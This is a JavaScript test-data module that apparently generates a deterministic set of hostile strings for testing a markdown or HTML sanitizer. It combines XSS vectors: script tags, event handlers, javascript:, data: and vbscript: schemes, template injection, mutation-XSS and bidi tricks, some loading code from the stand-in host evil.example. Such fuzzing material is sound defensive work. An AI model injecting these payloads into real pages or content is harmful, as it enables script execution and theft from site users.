/** Strings that try to become more than text: made from parts by a seeded generator, the same on every run. */

import { makeRandom } from './random.js';

const CODE = ['alert(1)', 'confirm(1)', 'prompt(1)', "parent.postMessage('x','*')", 'document.title=1', 'import("//evil.example/x.js")'];
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', ' javascript:', 'javascript&colon;',
  'javascript&#58;', 'data:text/html,', 'data:text/html;base64,', 'vbscript:', 'file:///etc/', 'blob:', 'about:blank#',
  'view-source:', 'ws://evil.example/', '//evil.example/', 'http://user:pass@evil.example/', 'filesystem:', 'intent://',
];
const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus autofocus', 'ontoggle', 'onanimationstart', 'onpointerrawupdate'];
const SHAPES = [
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT SRC=//evil.example/x.js>${code}</SCRIPT >`,
  (code, scheme, event) => `<img src=x ${event}=${code}>`,
  (code, scheme, event) => `<svg ${event}="${code}"><script>${code}</script></svg>`,
  (code, scheme, event) => `<details open ${event}=${code}><summary>x</summary></details>`,
  (code, scheme) => `[click](${scheme}${code})`,
  (code, scheme) => `[click](<${scheme}${code}>)`,
  (code, scheme) => `[click](${scheme}${code} "title")`,
  (code, scheme) => `![image](${scheme}${code})`,
  (code, scheme) => `<${scheme}${code}>`,
  (code, scheme) => `<a href="${scheme}${code}">x</a>`,
  (code, scheme) => `<iframe src="${scheme}${code}" srcdoc="<script>${code}</script>"></iframe>`,
  (code, scheme) => `[a]: ${scheme}${code}\n\n[a]`,
  (code, scheme, event) => `[x](https://a.example/" ${event}="${code})`,
  (code, scheme, event) => `[x](https://a.example/ "y" ${event}=${code})`,
  (code, scheme, event) => `\`\`\`js" ${event}="${code}\n${code}\n`,
  (code) => `\`\`\`<script>${code}</script>\n</code></pre><script>${code}</script>\n\`\`\``,
  (code, scheme, event) => `| <img src=x ${event}=${code}> | b |\n| --- | --- |\n| <script>${code}</script> | \`</td>\` |`,
  (code) => `<style>@import url(//evil.example/x.css)</style><link rel=stylesheet href=//evil.example/x.css>${code}`,
  (code, scheme) => `<base href="${scheme}"><form action="${scheme}${code}"><button>x</button></form>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;&#60;script&#62;`,
  (code) => `{{constructor.constructor('${code}')()}}\${${code}}<%= ${code} %>`,
  (code) => `"><template><script>${code}</script></template><!--`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  (code) => `\u202e<script>${code}</script>\u2066 [x\u202e](https://a.example/\u202e)`,
  (code) => `__proto__ constructor \`\`\`__proto__\n${code}\n\`\`\`\n\`\`\`constructor\n${code}\n`,
];
const AROUND = [(x) => x, (x) => `> ${x}`, (x) => `- ${x}`, (x) => `1. a\n   - ${x}`, (x) => `**${x}**`, (x) => `# ${x}`, (x) => `~~*${x}*~~`, (x) => `\`${x}\``];

/** Returns `count` strings, each shape and scheme among them. */
export function hostileStrings(count = 300, seed = 1) {
  const random = makeRandom(seed);
  return Array.from({ length: count }, (_, index) => {
    const shape = SHAPES[index % SHAPES.length];
    const text = shape(random.pick(CODE), SCHEMES[index % SCHEMES.length], random.pick(EVENTS));
    return random.pick(AROUND)(text);
  });
}

/** Cuts a text at random places, also inside its characters' surrogate pairs. */
export function piecesOf(text, random) {
  const pieces = [];
  for (let at = 0; at < text.length; ) {
    const size = 1 + random.below(7);
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}
